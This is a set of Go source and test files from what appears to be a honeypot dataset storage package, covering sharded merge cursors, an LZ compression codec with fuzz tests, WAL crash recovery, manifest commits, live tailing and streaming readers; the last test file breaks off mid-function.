	}
	c.heads[i] = nil
	if err := c.curs[i].Err(); err != nil && c.err == nil {
		c.err = fmt.Errorf("store: shard %s: %w", c.nodes[i], err)
	}
}

// Next advances to the next record in merge order. It returns false at
// the end of the scan or on error (see Err).
func (c *FleetCursor) Next() bool {
	if c.err != nil {
		return false
	}
	best := -1
	for i, h := range c.heads {
		if h == nil {
			continue
		}
		if best < 0 || headLess(h, c.nodes[i], c.heads[best], c.nodes[best]) {
			best = i
		}
	}
	if best < 0 {
		c.cur = nil
		return false
	}
	c.cur, c.node = c.heads[best], c.nodes[best]
	// A refill error surfaces on the following Next; the record already
	// selected is still valid.
	c.advance(best)
	return true
}

// headLess orders two shard heads by (month, Start, node). The seq
// tiebreak is implicit: within one shard, records already come in seq
// order.
func headLess(a *session.Record, an string, b *session.Record, bn string) bool {
	am, bm := a.Month(), b.Month()
	if !am.Equal(bm) {
		return am.Before(bm)
	}
	if !a.Start.Equal(b.Start) {
		return a.Start.Before(b.Start)
	}
	return an < bn
}

// Record returns the record Next advanced to.
func (c *FleetCursor) Record() *session.Record { return c.cur }

// Node returns the node id of the shard the current record came from.
func (c *FleetCursor) Node() string { return c.node }

// Err returns the first error the scan hit, if any.
func (c *FleetCursor) Err() error { return c.err }

// Close releases every shard cursor.
func (c *FleetCursor) Close() error {
	var err error
	for _, cur := range c.curs {
		if cerr := cur.Close(); err == nil {
			err = cerr
		}
	}
	return err
}

// Stats computes fleet-wide dataset statistics by streaming every
// shard, mirroring Store.Stats.
func (f *Fleet) Stats() (collector.Stats, error) {
	st := collector.Stats{ByKind: map[session.Kind]int{}}
	ips := map[string]bool{}
	cur := f.Scan(TimeRange{}, nil)
	defer cur.Close()
	for cur.Next() {
		r := cur.Record()
		st.Total++
		switch r.Protocol {
		case session.ProtoSSH:
			st.SSH++
		case session.ProtoTelnet:
			st.Telnet++
		}
		k := r.Kind()
		st.ByKind[k]++
		if k == session.CommandExec {
			st.CommandExec++
			if r.StateChanged {
				st.StateChanged++
			}
		}
		ips[r.ClientIP] = true
	}
	if err := cur.Err(); err != nil {
		return st, err
	}
	st.UniqueIPs = len(ips)
	return st, nil
}

// Load materializes every record across shards in the fleet's
// canonical total order — (Start, node, seq) — so the figure pipeline
// over a fleet matches a single store whose records were appended in
// that order, byte for byte. Shards decompress their segments in
// parallel on the shared worker pool.
func (f *Fleet) Load(workers int) ([]*session.Record, error) {
	type ent struct {
		r     *session.Record
		shard int32
		idx   int32
	}
	var ents []ent
	for si, sh := range f.shards {
		recs, err := sh.Store.Load(workers)
		if err != nil {
			return nil, fmt.Errorf("store: fleet shard %s: %w", sh.Node, err)
		}
		for i, r := range recs {
			ents = append(ents, ent{r: r, shard: int32(si), idx: int32(i)})
		}
	}
	sort.Slice(ents, func(i, j int) bool {
		a, b := ents[i], ents[j]
		if !a.r.Start.Equal(b.r.Start) {
			return a.r.Start.Before(b.r.Start)
		}
		if a.shard != b.shard {
			return f.shards[a.shard].Node < f.shards[b.shard].Node
		}
		return a.idx < b.idx
	})
	out := make([]*session.Record, len(ents))
	for i, e := range ents {
		out[i] = e.r
	}
	return out, nil
}
