package store

import (
	"bytes"
	"math/rand"
	"testing"
)

// codecTestInputs builds inputs spanning the codec's regimes: empty,
// tiny, highly repetitive, JSONL-like, and incompressible.
func codecTestInputs() [][]byte {
	rng := rand.New(rand.NewSource(7))
	rnd := make([]byte, 1<<18)
	rng.Read(rnd)
	jsonl := bytes.Repeat([]byte(`{"id":123,"start":"2021-07-03T12:30:45Z","hp":"hp-1","client_ip":"203.0.113.9","proto":"ssh","logins":[{"user":"root","pass":"123456","ok":false}]}`+"\n"), 1500)
	long := make([]byte, 300) // forces extended literal/match lengths
	for i := range long {
		long[i] = byte(i % 7)
	}
	return [][]byte{
		nil,
		[]byte("a"),
		[]byte("abcdefghijkl"),
		[]byte("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
		bytes.Repeat([]byte("abcd"), 5000),
		long,
		jsonl,
		rnd[:37],
		rnd,
		append(append([]byte{}, jsonl[:1000]...), rnd[:1000]...),
	}
}

func TestLZRoundTrip(t *testing.T) {
	var c lzCodec
	for i, in := range codecTestInputs() {
		comp, err := c.compress(nil, in)
		if err != nil {
			t.Fatalf("input %d: compress: %v", i, err)
		}
		out := make([]byte, len(in))
		if err := c.decompress(out, comp); err != nil {
			t.Fatalf("input %d: decompress: %v", i, err)
		}
		if !bytes.Equal(out, in) {
			t.Fatalf("input %d: round trip mismatch (%d bytes in, %d compressed)", i, len(in), len(comp))
		}
	}
}

func TestLZCompresses(t *testing.T) {
	var c lzCodec
	in := bytes.Repeat([]byte(`{"id":1,"proto":"ssh","client_ip":"203.0.113.9"}`+"\n"), 2000)
	comp, err := c.compress(nil, in)
	if err != nil {
		t.Fatal(err)
	}
	if len(comp) > len(in)/10 {
		t.Fatalf("repetitive JSONL compressed to %d of %d bytes; want ≤ 10%%", len(comp), len(in))
	}
}

func TestLZDecompressRejectsGarbage(t *testing.T) {
	var c lzCodec
	cases := [][]byte{
		{0x01},                   // literal promised, absent
		{0xF0},                   // extended literal length, no bytes
		{0x0F, 0x00, 0x00},       // match with zero offset
		{0x00, 0x05, 0x00},       // match offset beyond output
		{0x1F, 'a', 0x01, 0x00},  // extended match length truncated... then EOF
		{0xFF, 0xFF, 0xFF, 0xFF}, // runaway extended lengths
	}
	for i, in := range cases {
		out := make([]byte, 64)
		if err := c.decompress(out, in); err == nil {
			t.Errorf("case %d: corrupt input decompressed without error", i)
		}
	}
	// Wrong declared size must error too.
	comp, _ := c.compress(nil, []byte("hello hello hello hello"))
	if err := c.decompress(make([]byte, 5), comp); err == nil {
		t.Error("short dst accepted")
	}
}

// FuzzBlockCodec fuzzes both directions: any input must round-trip
// exactly, and decompressing the input as if it were a compressed
// stream must never panic or read out of bounds.
func FuzzBlockCodec(f *testing.F) {
	for _, in := range codecTestInputs() {
		if len(in) < 1<<16 {
			f.Add(in)
		}
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		var c lzCodec
		comp, err := c.compress(nil, in)
		if err != nil {
			t.Fatalf("compress: %v", err)
		}
		out := make([]byte, len(in))
		if err := c.decompress(out, comp); err != nil {
			t.Fatalf("decompress(compress(x)): %v", err)
		}
		if !bytes.Equal(out, in) {
			t.Fatal("round trip mismatch")
		}
		// Treat the raw input as a compressed stream: must not panic,
		// any error is fine.
		_ = c.decompress(make([]byte, 1024), in)
		_ = c.decompress(nil, in)
	})
}

func BenchmarkBlockCodec(b *testing.B) {
	in := bytes.Repeat([]byte(`{"id":123,"start":"2021-07-03T12:30:45Z","hp":"hp-1","client_ip":"203.0.113.9","proto":"ssh","logins":[{"user":"root","pass":"123456","ok":false}]}`+"\n"), 1500)
	for _, name := range []string{CodecLZ, CodecFlate} {
		c, err := newBlockCodec(name)
		if err != nil {
			b.Fatal(err)
		}
		comp, err := c.compress(nil, in)
		if err != nil {
			b.Fatal(err)
		}
		b.Run("compress-"+name, func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			var buf []byte
			for i := 0; i < b.N; i++ {
				buf, _ = c.compress(buf[:0], in)
			}
			b.ReportMetric(float64(len(in))/float64(len(comp)), "ratio")
		})
		b.Run("decompress-"+name, func(b *testing.B) {
			b.SetBytes(int64(len(in)))
			out := make([]byte, len(in))
			for i := 0; i < b.N; i++ {
				if err := c.decompress(out, comp); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
