package store

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"
)

// This file is the live-tail surface: Tail streams a writable store's
// appends in-process (watch-driven, no polling), and Follow tails a
// store or fleet directory from the outside (polling ReadOnly
// snapshots), the engine behind `hnquery -follow`.

// Tail streams every record with sequence >= from, in order, then
// blocks for new appends and streams those as they arrive, until ctx is
// done or fn returns an error (which Tail returns). The line passed to
// fn is the record's canonical JSON, valid only for the duration of the
// call.
//
// Tail is for the writing process: it rides the store's append signal
// (see Watch) and never misses progress. A ReadOnly open is a frozen
// snapshot — tailing one only ever yields the records present at Open;
// use Follow to tail another process's store.
func (s *Store) Tail(ctx context.Context, from uint64, fn func(seq uint64, line []byte) error) error {
	w := s.Watch()
	next := from
	for {
		c := s.ScanSeq(next)
		for c.Next() {
			if err := fn(c.Seq(), c.Line()); err != nil {
				c.Close()
				return err
			}
			next = c.Seq() + 1
		}
		err := c.Err()
		if cerr := c.Close(); err == nil {
			err = cerr
		}
		if err != nil {
			return err
		}
		// Drain-then-recheck per the Watch contract: an append landing
		// after the NextSeq check leaves a signal in w for the select.
		if s.NextSeq() > next {
			continue
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-w:
		}
	}
}

// Sealing reports whether dir currently holds a WAL rotated aside for a
// background seal. Purely informational — opens are safe mid-seal — but
// useful for operator messaging when an open fails for other reasons.
func Sealing(dir string) bool {
	return exists(filepath.Join(dir, walSealingName))
}

// followMaxFails is how many consecutive polls a shard may fail to open
// before Follow gives up on it. A freshly created node directory has a
// window with no store files yet; a seal in flight renames files
// around; both resolve within a poll or two.
const followMaxFails = 5

type followCursor struct {
	next  uint64
	fails int
}

// Follow tails a store directory — single store or fleet — from
// outside the writing process, invoking fn for every record in
// per-node sequence order as it appears. Each poll re-opens the
// store(s) ReadOnly, streams everything past the per-node cursor, and
// closes; node is "" for a single store and the node id for fleet
// shards. New node-<id> shards are picked up as they appear. Follow
// returns when ctx is done or fn returns an error (which it returns).
//
// Transient open failures (a shard directory still being created, a
// seal mid-rename) are retried for a few polls before surfacing.
func Follow(ctx context.Context, dir string, opts Options, interval time.Duration, fn func(node string, seq uint64, line []byte) error) error {
	opts.ReadOnly = true
	if interval <= 0 {
		interval = time.Second
	}
	cursors := map[string]*followCursor{}
	ticker := time.NewTicker(interval)
	defer ticker.Stop()
	for {
		if err := followOnce(dir, opts, cursors, fn); err != nil {
			return err
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-ticker.C:
		}
	}
}

// followOnce runs one poll: snapshot every shard and drain it past its
// cursor.
func followOnce(dir string, opts Options, cursors map[string]*followCursor, fn func(node string, seq uint64, line []byte) error) error {
	type shardRef struct {
		node string
		dir  string
	}
	var shards []shardRef
	if IsFleetDir(dir) {
		entries, err := os.ReadDir(dir)
		if err != nil {
			return err
		}
		for _, e := range entries {
			if e.IsDir() && strings.HasPrefix(e.Name(), NodeDirPrefix) {
				node := strings.TrimPrefix(e.Name(), NodeDirPrefix)
				shards = append(shards, shardRef{node: node, dir: filepath.Join(dir, e.Name())})
			}
		}
		sort.Slice(shards, func(i, j int) bool { return shards[i].node < shards[j].node })
	} else {
		shards = []shardRef{{node: "", dir: dir}}
	}
	for _, sh := range shards {
		cur := cursors[sh.node]
		if cur == nil {
			cur = &followCursor{}
			cursors[sh.node] = cur
		}
		st, err := Open(sh.dir, opts)
		if err != nil {
			cur.fails++
			if cur.fails < followMaxFails {
				continue
			}
			return fmt.Errorf("store: follow %s: %w", sh.dir, err)
		}
		cur.fails = 0
		err = drainShard(st, sh.node, cur, fn)
		if cerr := st.Close(); err == nil {
			err = cerr
		}
		if err != nil {
			return err
		}
	}
	return nil
}

func drainShard(st *Store, node string, cur *followCursor, fn func(node string, seq uint64, line []byte) error) error {
	c := st.ScanSeq(cur.next)
	defer c.Close()
	for c.Next() {
		if err := fn(node, c.Seq(), c.Line()); err != nil {
			return err
		}
		cur.next = c.Seq() + 1
	}
	return c.Err()
}
