package store

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"time"
)

// The manifest is the store's commit record: a segment exists once —
// and only once — the manifest referencing it has been atomically
// renamed into place and fsynced. Everything else on disk (a partially
// written segment from a crashed seal, a WAL the seal already folded
// in) is recovered or discarded against it on Open.

const (
	manifestName    = "MANIFEST.json"
	manifestVersion = 1
	walName         = "wal.jsonl"
	walSealingName  = "wal-sealing.jsonl" // WAL rotated aside for a background seal
	monthLayout     = "2006-01"
)

// blockMeta locates one compressed block inside a segment file. For
// row blocks (v1/v2) the CRC covers the compressed bytes. For columnar
// blocks (v3) DirLen is the length of the uncompressed column
// directory at Off, the CRC covers the directory bytes (each stripe
// carries its own CRC in the directory), CLen is directory plus all
// stripes, and ULen is the summed uncompressed stripe length.
type blockMeta struct {
	Off    int64  `json:"off"`            // byte offset in the segment file
	CLen   int    `json:"clen"`           // compressed length
	ULen   int    `json:"ulen"`           // uncompressed payload length
	Count  int    `json:"count"`          // records in the block
	CRC    uint32 `json:"crc"`            // IEEE CRC-32 (v1/v2: compressed bytes; v3: directory)
	DirLen int    `json:"dlen,omitempty"` // v3 only: column directory length
}

// segmentMeta describes one sealed, immutable segment: a single month's
// worth of records from one seal, with the per-segment aggregates the
// query engine prunes and rolls up on.
type segmentMeta struct {
	File    string    `json:"file"`
	Month   string    `json:"month"` // "2006-01"
	MinTime time.Time `json:"min_time"`
	MaxTime time.Time `json:"max_time"`
	MinSeq  uint64    `json:"min_seq"` // global append order bounds
	MaxSeq  uint64    `json:"max_seq"`
	Records int       `json:"records"`
	// Kinds counts records per session.Kind (index = kind value).
	Kinds     [4]int `json:"kinds"`
	SSH       int    `json:"ssh"`
	Telnet    int    `json:"telnet"`
	RawBytes  int64  `json:"raw_bytes"`
	CompBytes int64  `json:"comp_bytes"`
	// Codec names the block codec and layout: "" or "flate" is DEFLATE
	// (v1, HNSTORE1 magic), "lz" the in-tree LZ codec (v2, HNSTORE2),
	// "v3" the columnar layout (HNSTORE3, LZ-compressed stripes).
	// Omitted for v1 so pre-codec manifests round-trip byte-identically.
	Codec  string      `json:"codec,omitempty"`
	Bloom  *Bloom      `json:"bloom"` // over client IPs
	Blocks []blockMeta `json:"blocks"`

	// enc caches this segment's marshaled JSON. Segments are immutable
	// once committed, so each is encoded once: without the cache every
	// seal re-encodes every older segment (Bloom base64 included) and
	// manifest writes degrade quadratically as the store grows.
	enc json.RawMessage `json:"-"`
}

// month parses the segment's partition month.
func (sm *segmentMeta) month() time.Time {
	t, _ := time.Parse(monthLayout, sm.Month)
	return t
}

// manifest is the fsynced root of the store. It is treated as
// copy-on-write in memory: a seal builds a new value and swaps it in,
// so cursors holding the old one keep a consistent snapshot.
type manifest struct {
	Version int `json:"version"`
	// NextSeg numbers the next segment file, monotonically, so a
	// crashed seal's orphan file is simply overwritten by the retry.
	NextSeg int `json:"next_seg"`
	// NextSeq is the global append sequence of the first WAL record:
	// every record ever sealed has a unique, dense seq in [0, NextSeq).
	NextSeq  uint64         `json:"next_seq"`
	Segments []*segmentMeta `json:"segments"`
}

// loadManifest reads dir's manifest; a missing file yields a fresh one.
func loadManifest(dir string) (*manifest, error) {
	data, err := os.ReadFile(filepath.Join(dir, manifestName))
	if err != nil {
		if os.IsNotExist(err) {
			return &manifest{Version: manifestVersion}, nil
		}
		return nil, err
	}
	m := &manifest{}
	if err := json.Unmarshal(data, m); err != nil {
		return nil, fmt.Errorf("store: corrupt manifest: %w", err)
	}
	if m.Version != manifestVersion {
		return nil, fmt.Errorf("store: manifest version %d not supported", m.Version)
	}
	return m, nil
}

// save writes the manifest atomically: temp file, fsync, rename over
// the live name, fsync the directory. A crash at any point leaves
// either the old or the new manifest, never a torn one.
func (m *manifest) save(dir string) error {
	// Encode through per-segment caches and assemble the document by
	// hand: only segments new to this manifest pay a marshal, and the
	// cached bytes are spliced in without being re-scanned (feeding
	// them to json.Marshal as RawMessage would re-validate every byte
	// of every old segment on every seal).
	var buf bytes.Buffer
	fmt.Fprintf(&buf, `{"version":%d,"next_seg":%d,"next_seq":%d,"segments":[`,
		m.Version, m.NextSeg, m.NextSeq)
	for i, sm := range m.Segments {
		if sm.enc == nil {
			enc, err := json.Marshal(sm)
			if err != nil {
				return err
			}
			sm.enc = enc
		}
		if i > 0 {
			buf.WriteByte(',')
		}
		buf.Write(sm.enc)
	}
	buf.WriteString("]}")
	data := buf.Bytes()
	tmp := filepath.Join(dir, manifestName+".tmp")
	f, err := os.OpenFile(tmp, os.O_CREATE|os.O_TRUNC|os.O_WRONLY, 0o644)
	if err != nil {
		return err
	}
	if _, err := f.Write(append(data, '\n')); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	if err := os.Rename(tmp, filepath.Join(dir, manifestName)); err != nil {
		return err
	}
	return syncDir(dir)
}

// syncDir fsyncs a directory so a just-renamed file is durable.
func syncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	err = d.Sync()
	if cerr := d.Close(); err == nil {
		err = cerr
	}
	return err
}
