package store

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"
)

func TestOptionsValidate(t *testing.T) {
	ok := []Options{
		{},
		{SealBytes: -1, SyncEvery: -1}, // documented disable sentinels
		{Codec: CodecLZ},
		{Codec: CodecFlate},
		{BlockBytes: 4096, MaxBatch: 64, MaxDelay: time.Millisecond, SealWorkers: 2},
	}
	for i, o := range ok {
		if err := o.Validate(); err != nil {
			t.Errorf("options %d: unexpected error: %v", i, err)
		}
	}
	bad := []Options{
		{BlockBytes: -1},
		{MaxBatch: -1},
		{MaxDelay: -time.Millisecond},
		{SealWorkers: -1},
		{Codec: "zstd"},
	}
	for i, o := range bad {
		if err := o.Validate(); err == nil {
			t.Errorf("options %d (%+v): expected validation error", i, o)
		}
		if _, err := Open(t.TempDir(), o); err == nil {
			t.Errorf("options %d (%+v): Open accepted invalid options", i, o)
		}
	}
}

// TestBackgroundSealOverlapsAppends drives enough data through a small
// SealBytes that several auto-seals trigger while appends keep coming.
// The seals must run in the background (sealBackground counts them),
// and the final history must be the exact append order with nothing
// lost or duplicated across the WAL rotations.
func TestBackgroundSealOverlapsAppends(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: 32 << 10, SyncEvery: -1, MaxDelay: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	const n = 2000
	want := fill(t, s, n, 2)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if s.sealBackground.Load() == 0 {
		t.Fatal("no background seal ran despite SealBytes being exceeded many times over")
	}

	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	got, err := s2.Load(2)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != n {
		t.Fatalf("loaded %d records, want %d", len(got), n)
	}
	for i := range want {
		if w, g := marshal(t, want[i]), marshal(t, got[i]); !bytes.Equal(w, g) {
			t.Fatalf("record %d not identical after background seals:\n want %s\n  got %s", i, w, g)
		}
	}
}

// TestCrashDuringBackgroundSealFinished reconstructs the on-disk state
// of a crash after WAL rotation but before the background seal
// committed: a rotated-aside wal-sealing.jsonl whose base matches the
// manifest, plus an active WAL with appends that arrived during the
// seal. Open must finish the seal from the frozen file and then replay
// the active WAL on top, preserving exact append order.
func TestCrashDuringBackgroundSealFinished(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		t.Fatal(err)
	}
	const sealed = 60
	want := fill(t, s, sealed, 2)
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	s.walF.Close() // crash without Close

	// Rotate by hand: the WAL (base 0, matching the manifest) becomes
	// the frozen file, and a fresh WAL binds at base=sealed with the
	// records appended while the doomed seal was running.
	if err := os.Rename(filepath.Join(dir, walName), filepath.Join(dir, walSealingName)); err != nil {
		t.Fatal(err)
	}
	var wal bytes.Buffer
	fmt.Fprintf(&wal, "{\"_wal\":{\"base\":%d}}\n", sealed)
	const during = 10
	for i := 0; i < during; i++ {
		r := mkRecord(i%2, sealed+i)
		want = append(want, r)
		wal.Write(marshal(t, r))
		wal.WriteByte('\n')
	}
	if err := os.WriteFile(filepath.Join(dir, walName), wal.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{})
	if err != nil {
		t.Fatalf("recovery failed: %v", err)
	}
	defer s2.Close()
	if s2.Segments() == 0 {
		t.Fatal("interrupted background seal was not finished on Open")
	}
	if got := s2.Len(); got != sealed+during {
		t.Fatalf("store holds %d records, want %d", got, sealed+during)
	}
	got, err := s2.Load(2)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want {
		if w, g := marshal(t, want[i]), marshal(t, got[i]); !bytes.Equal(w, g) {
			t.Fatalf("record %d not identical after seal recovery:\n want %s\n  got %s", i, w, g)
		}
	}
}

// TestStaleFrozenWALDiscarded covers the other branch: the background
// seal committed its manifest, but the crash hit before the frozen WAL
// was removed. Its base is behind the manifest, so Open must discard it
// rather than replay records that already live in segments.
func TestStaleFrozenWALDiscarded(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		t.Fatal(err)
	}
	const n = 60
	fill(t, s, n, 2)
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	preSeal, err := os.ReadFile(filepath.Join(dir, walName))
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Seal(); err != nil { // manifest now at NextSeq=n
		t.Fatal(err)
	}
	s.walF.Close() // crash without Close

	// The pre-seal WAL (base 0) reappears as the frozen file: exactly
	// what a crash between manifest commit and frozen-WAL removal
	// leaves behind.
	if err := os.WriteFile(filepath.Join(dir, walSealingName), preSeal, 0o644); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	if drops := s2.staleWALDrops.Load(); drops != 1 {
		t.Fatalf("stale WAL drops = %d, want 1", drops)
	}
	if got := s2.Len(); got != n {
		t.Fatalf("store holds %d records after stale frozen WAL, want %d (no duplicates)", got, n)
	}
	if exists(filepath.Join(dir, walSealingName)) {
		t.Fatal("stale frozen WAL still on disk after Open")
	}
}

// TestCodecsByteIdentical is the cross-codec property: the same records
// sealed through the v1 (flate) and v2 (lz) codecs must scan back
// byte-identically, and each store must carry its own format markers
// (segment magic, manifest codec field).
func TestCodecsByteIdentical(t *testing.T) {
	const n = 400
	type out struct {
		dir   string
		lines [][]byte
	}
	outs := map[string]*out{}
	for _, codec := range []string{CodecFlate, CodecLZ} {
		dir := t.TempDir()
		s, err := Open(dir, Options{Codec: codec, BlockBytes: 2048, SealBytes: -1, SyncEvery: -1})
		if err != nil {
			t.Fatal(err)
		}
		fill(t, s, n, 3)
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
		s2, err := Open(dir, Options{ReadOnly: true})
		if err != nil {
			t.Fatal(err)
		}
		recs, err := s2.Load(3)
		if err != nil {
			t.Fatal(err)
		}
		o := &out{dir: dir}
		for _, r := range recs {
			o.lines = append(o.lines, marshal(t, r))
		}
		s2.Close()
		outs[codec] = o
	}

	fl, lz := outs[CodecFlate], outs[CodecLZ]
	if len(fl.lines) != n || len(lz.lines) != n {
		t.Fatalf("loaded %d flate / %d lz records, want %d each", len(fl.lines), len(lz.lines), n)
	}
	for i := range fl.lines {
		if !bytes.Equal(fl.lines[i], lz.lines[i]) {
			t.Fatalf("record %d differs across codecs:\n flate %s\n    lz %s", i, fl.lines[i], lz.lines[i])
		}
	}

	// Format markers: flate segments are v1 files referenced by a
	// manifest without a codec field — byte-compatible with stores
	// written before the codec existed. LZ segments are v2.
	checkMagic := func(dir string, magic [8]byte) {
		t.Helper()
		segs, _ := filepath.Glob(filepath.Join(dir, "seg-*.hns"))
		if len(segs) == 0 {
			t.Fatal("no segment files")
		}
		for _, seg := range segs {
			head := make([]byte, 8)
			f, err := os.Open(seg)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := f.Read(head); err != nil {
				t.Fatal(err)
			}
			f.Close()
			if !bytes.Equal(head, magic[:]) {
				t.Fatalf("%s: magic %q, want %q", seg, head, magic[:])
			}
		}
	}
	checkMagic(fl.dir, segMagicV1)
	checkMagic(lz.dir, segMagicV2)
	flMan, err := os.ReadFile(filepath.Join(fl.dir, manifestName))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(flMan, []byte(`"codec"`)) {
		t.Fatal("flate manifest carries a codec field; v1 manifests must stay byte-identical")
	}
	lzMan, err := os.ReadFile(filepath.Join(lz.dir, manifestName))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(lzMan, []byte(`"codec":"lz"`)) {
		t.Fatal("lz manifest missing codec field")
	}
}
