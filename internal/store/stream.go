package store

import (
	"fmt"
	"sort"
	"time"

	"honeynet/internal/session"
)

// Streaming replacements for the materializing Load paths. Load builds
// the whole record set in memory before the first record is consumed —
// O(store) peak, fine for a month of data, hostile at the paper's 635M
// sessions. Stream yields the identical sequence one record at a time:
// Store.Stream holds one open block per live segment of the sequence
// merge (O(open blocks)), Fleet.Stream buffers one month at a time
// (O(largest month)), and both orders are exactly Load's, so a consumer
// that folds records as they arrive — the figure pipeline, hncollect —
// computes byte-identical results without the up-front copy.

// StreamCursor streams a snapshot of one store in exact global append
// order — the same sequence Load materializes.
type StreamCursor struct {
	sc    *SeqCursor
	dec   session.JSONDecoder
	arena recArena
	cur   *session.Record
	err   error
}

// Stream returns a cursor over every record in global append order.
// Peak memory is one open block per segment overlapping the merge
// frontier, not the dataset. Records the cursor yields stay valid after
// the next call (they are arena-allocated, never reused).
func (s *Store) Stream() *StreamCursor {
	return &StreamCursor{sc: s.ScanSeq(0)}
}

// Next advances to the next record in append order.
func (c *StreamCursor) Next() bool {
	if c.err != nil {
		return false
	}
	if !c.sc.Next() {
		if err := c.sc.Err(); err != nil {
			c.err = err
		}
		c.cur = nil
		return false
	}
	r := c.arena.alloc()
	if err := c.dec.Decode(c.sc.Line(), r); err != nil {
		c.err = fmt.Errorf("store: decoding record: %w", err)
		c.cur = nil
		return false
	}
	c.cur = r
	return true
}

// Record returns the record Next advanced to.
func (c *StreamCursor) Record() *session.Record { return c.cur }

// Err returns the first error the stream hit, if any.
func (c *StreamCursor) Err() error { return c.err }

// Close releases the stream's open segments.
func (c *StreamCursor) Close() error { return c.sc.Close() }

// FleetStream streams a fleet snapshot in the canonical total order —
// (Start, node, seq), exactly Fleet.Load's — buffering one month at a
// time instead of the whole fleet.
type FleetStream struct {
	f      *Fleet
	months []time.Time
	mi     int
	buf    []*session.Record
	bi     int
	cur    *session.Record
	err    error
}

// Stream returns a cursor over every record across shards in the
// fleet's canonical order. Because Start determines the partition
// month, the global (Start, node, seq) sort decomposes into ascending
// months sorted independently — so only one month is resident at a
// time.
func (f *Fleet) Stream() *FleetStream {
	return &FleetStream{f: f, months: f.Months()}
}

// Next advances to the next record in canonical fleet order.
func (fs *FleetStream) Next() bool {
	if fs.err != nil {
		return false
	}
	for fs.bi >= len(fs.buf) {
		if fs.mi >= len(fs.months) {
			fs.cur = nil
			return false
		}
		if !fs.loadMonth(fs.months[fs.mi]) {
			return false
		}
		fs.mi++
	}
	fs.cur = fs.buf[fs.bi]
	fs.bi++
	return true
}

// loadMonth gathers one month from every shard and sorts it into the
// canonical order. A shard's month-scoped scan yields its records in
// sequence order, so the within-month (node, arrival) tie-break equals
// Load's global (node, seq) one restricted to the month.
func (fs *FleetStream) loadMonth(m time.Time) bool {
	type ent struct {
		r     *session.Record
		shard int32
		idx   int32
	}
	var ents []ent
	tr := Month(m)
	for si, sh := range fs.f.shards {
		cur := sh.Store.scanQ(tr, nil, "", session.FAllFields, nil, nil)
		idx := int32(0)
		for cur.Next() {
			ents = append(ents, ent{r: cur.Record(), shard: int32(si), idx: idx})
			idx++
		}
		if err := cur.Err(); err != nil {
			cur.Close()
			fs.err = fmt.Errorf("store: fleet shard %s: %w", sh.Node, err)
			return false
		}
		cur.Close()
	}
	sort.Slice(ents, func(i, j int) bool {
		a, b := ents[i], ents[j]
		if !a.r.Start.Equal(b.r.Start) {
			return a.r.Start.Before(b.r.Start)
		}
		if a.shard != b.shard {
			return fs.f.shards[a.shard].Node < fs.f.shards[b.shard].Node
		}
		return a.idx < b.idx
	})
	fs.buf = fs.buf[:0]
	for _, e := range ents {
		fs.buf = append(fs.buf, e.r)
	}
	fs.bi = 0
	return true
}

// Record returns the record Next advanced to.
func (fs *FleetStream) Record() *session.Record { return fs.cur }

// Err returns the first error the stream hit, if any.
func (fs *FleetStream) Err() error { return fs.err }

// Close is a no-op (month scans close as they finish); it exists so
// FleetStream satisfies the same cursor shape as StreamCursor.
func (fs *FleetStream) Close() error { return nil }
