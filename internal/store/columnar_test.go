package store

import (
	"fmt"
	"reflect"
	"testing"
	"time"

	"honeynet/internal/session"
)

// openFmt opens a fresh store in dir with the given segment format.
func openFmt(t *testing.T, dir, format string) *Store {
	t.Helper()
	s, err := Open(dir, Options{BlockBytes: 2048, Format: format})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// sealAll appends recs and seals them.
func sealAll(t *testing.T, s *Store, recs []*session.Record) {
	t.Helper()
	for i, r := range recs {
		if err := s.Append(r); err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
	}
	if err := s.Seal(); err != nil {
		t.Fatalf("seal: %v", err)
	}
}

func TestColumnarLoadMatchesRowFormat(t *testing.T) {
	recs := make([]*session.Record, 0, 400)
	for i := 0; i < 400; i++ {
		recs = append(recs, mkRecord(i%3, i))
	}
	v2, v3 := openFmt(t, t.TempDir(), ""), openFmt(t, t.TempDir(), FormatV3)
	defer v2.Close()
	defer v3.Close()
	sealAll(t, v2, recs)
	sealAll(t, v3, recs)

	a, err := v2.Load(2)
	if err != nil {
		t.Fatal(err)
	}
	b, err := v3.Load(2)
	if err != nil {
		t.Fatal(err)
	}
	if len(a) != len(b) {
		t.Fatalf("Load lengths differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if !reflect.DeepEqual(a[i], b[i]) {
